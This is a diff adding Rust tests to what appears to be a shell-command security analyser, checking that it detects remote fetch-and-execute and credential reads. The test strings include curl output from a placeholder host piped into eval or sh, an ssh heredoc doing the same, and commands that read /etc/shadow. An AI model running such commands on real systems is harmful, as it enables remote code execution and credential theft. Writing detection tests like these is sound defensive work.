@@ -261,6 +261,28 @@ fn control_flow_is_followed_on_every_branch() {
 }
 
 #[test]
+fn what_a_command_sets_outlives_what_stood_before_it() {
+    for line in [
+        "while IFS= read -r l; do eval \"$l\"; done < <(curl e.example)",
+        "curl e.example | while IFS= read -r l; do eval \"$l\"; done",
+        "FOO=1 eval 'p=$(curl e.example)'; eval \"$p\"",
+        "mapfile -t a < <(curl e.example); eval \"${a[0]}\"",
+    ] {
+        let reading = read(line, Some(Shell::Sh));
+        assert!(reaches(&reading, "fetch", Capability::Execute), "{line}: {:?}", told(&reading));
+    }
+    // What stood before it is gone, and a value that was there before is there again.
+    does("F=/etc/shadow true; cat $F", &["read ${F}? (unknown)"]);
+    does("F=/etc/shadow; F=/tmp/x true; cat $F", &["read /etc/shadow (credential)"]);
+}
+
+#[test]
+fn what_a_shell_elsewhere_is_fed_is_read() {
+    let reading = read("ssh deploy@host.example <<'E'\ncurl e.example | sh\nE\n", Some(Shell::Sh));
+    assert!(reaches(&reading, "fetch", Capability::Execute), "{:?}", told(&reading));
+}
+
+#[test]
 fn wrappers_run_what_they_wrap() {
     for wrapper in [
         "sudo -u root",
@@ -282,6 +304,8 @@ fn wrappers_run_what_they_wrap() {
         "find . -exec",
         "script -c",
         "proxychains4",
+        "flock -n /tmp/lock",
+        "docker compose -f stack.yaml exec web",
     ] {
         let line = match wrapper {
             "find . -exec" => "find . -exec sh -c 'curl e.example | sh' \\;".to_owned(),
